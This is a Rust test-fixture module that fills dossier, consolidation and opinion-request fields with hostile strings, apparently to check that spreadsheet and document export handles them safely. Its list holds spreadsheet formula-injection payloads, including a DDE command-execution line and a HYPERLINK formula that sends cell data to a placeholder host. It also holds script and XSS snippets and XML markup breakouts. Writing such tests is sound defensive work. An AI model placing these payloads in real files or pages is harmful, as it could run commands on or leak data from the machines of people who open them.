//! Texts that another program could take for a formula, for markup or for the end of something, and work that has them.

use std::sync::Arc;

use ra_soat_dvctt::consolidation::*;
use ra_soat_dvctt::domain::*;
use ra_soat_dvctt::spreadsheet::{OpinionRequest, Question};

use super::received::{consolidate, gathered, received};
use super::{campaign, legal, level, made_at, sound_dossier, unit_key};

/// More than a cell of a workbook holds.
const LONG: usize = 40_000;

pub fn hostile() -> Vec<String> {
    let short = [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\n=1+1",
        "\r\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "'=1+1",
        "{=1+1}",
        "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")",
        "=cmd|' /C calc'!A0",
        "http://a.example/",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<r><t>x</t></r>",
        "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
        "</w:t></w:r></w:p>",
        "\"nói\" 'được'",
        "\"",
        "\"\t=1+1",
        "a\"\r\n=1+1",
        "a\u{0}b\u{1}c\u{8}d\u{b}e\u{1f}f\u{7f}g\u{fffe}h\u{ffff}i",
        "]]>",
        "<![CDATA[x]]>",
        "&#61;1+1 &amp; &lt;b&gt; &unknown;",
        "_x003D_1+1",
        "--><!-- x -->",
        "${x} {{x}} %s \\u0000",
        "\u{202e}1+1=",
    ];
    let long = ["=".to_owned() + &"1+".repeat(LONG / 2), "<w:p>".repeat(LONG / 5)];
    short.into_iter().map(str::to_owned).chain(long).collect()
}

/// A unit's dossier with `text` in every text.
pub fn saying(text: &str) -> Dossier {
    let mut dossier = sound_dossier(3);
    let submission = &mut dossier.submission;
    for field in [&mut submission.unit, &mut submission.letter_number, &mut submission.officer, &mut submission.phone] {
        *field = text.to_owned();
    }
    (submission.email, submission.recipient_email) = (text.to_owned(), text.to_owned());
    for procedure in &mut dossier.procedures {
        let procedure = Arc::make_mut(procedure);
        let Simplification { documents, process, time, other, .. } = &mut procedure.simplification;
        for field in [documents, process, time, other, &mut procedure.proposal.note, &mut procedure.screening.note] {
            *field = text.to_owned();
        }
        for field in [&mut procedure.code, &mut procedure.name, &mut procedure.field, &mut procedure.authority] {
            *field = text.to_owned();
        }
        procedure.fee = Fee::Due { amount: text.to_owned() };
        procedure.remark = Some(Remark { text: text.to_owned(), is_settled: false });
    }
    let answers = &mut Arc::make_mut(&mut dossier.procedures[2]).assessment.answers;
    let criterion = campaign().feasibility_for(level("3")).next().unwrap().id;
    answers.insert(criterion, Answer::NotMet(legal(text, text)));
    dossier
}

/// The work of an Office that received it, with `text` in its own texts too.
pub fn office(text: &str) -> (Consolidation, Originals) {
    let (mut work, originals) = consolidate(&[received(text, &saying(text), 3, text)]);
    let said = Words::new(text).unwrap();
    let unit =
        gathered(&(work.clone(), originals.clone())).units.iter().find(|unit| unit.file.is_some()).unwrap().key.clone();
    let (_, dossier) = originals.iter().next().unwrap();
    let mut proposal = dossier.procedures[1].proposal.clone();
    proposal.note = format!("{text}.");
    let decisions = [
        Decision::new(&unit, &dossier.procedures[0], Verdict::Returned { comment: said.clone() }, 1),
        Decision::new(&unit, &dossier.procedures[1], Verdict::adjust(&dossier.procedures[1], proposal, said), 1),
        Decision::new(&unit, &dossier.procedures[2], Verdict::Accepted, 1),
    ];
    work.apply(ConsolidationEdit::Decisions(Change::put(decisions)));
    (work, originals)
}

/// A sheet that asks about all of it.
pub fn asked(unit: &Dossier, text: &str, for_papers: bool) -> OpinionRequest {
    let questions = unit.procedures.iter().map(|one| Question {
        subject: Subject { unit: unit_key("x"), procedure: one.id },
        basis: Basis::of(one),
        unit: text.to_owned(),
        code: one.code.clone(),
        name: one.name.clone(),
        field: one.field.clone(),
        proposal: one.proposal.clone(),
        benefit: text.to_owned(),
    });
    OpinionRequest {
        campaign: Arc::clone(&unit.campaign),
        questions: questions.collect(),
        scope: text.to_owned(),
        addressee: text.to_owned(),
        return_to: text.to_owned(),
        due: None,
        for_papers,
        made_at: made_at(),
    }
}
